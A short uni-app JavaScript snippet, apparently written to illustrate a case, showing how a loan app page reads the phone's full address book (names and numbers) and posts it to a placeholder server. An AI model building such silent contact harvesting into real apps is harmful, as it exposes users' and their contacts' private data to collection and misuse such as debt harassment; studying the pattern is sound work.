// Written for this case: what a page of a loan app does in uni-app to read and send the book.
function upload() {
  plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE, function (addressbook) {
    addressbook.find(["displayName", "phoneNumbers"], function (contacts) {
      uni.request({url: "https://api.example.com/v1/contacts", method: "POST", data: contacts});
    }, function () {}, {multiple: true});
  });
}
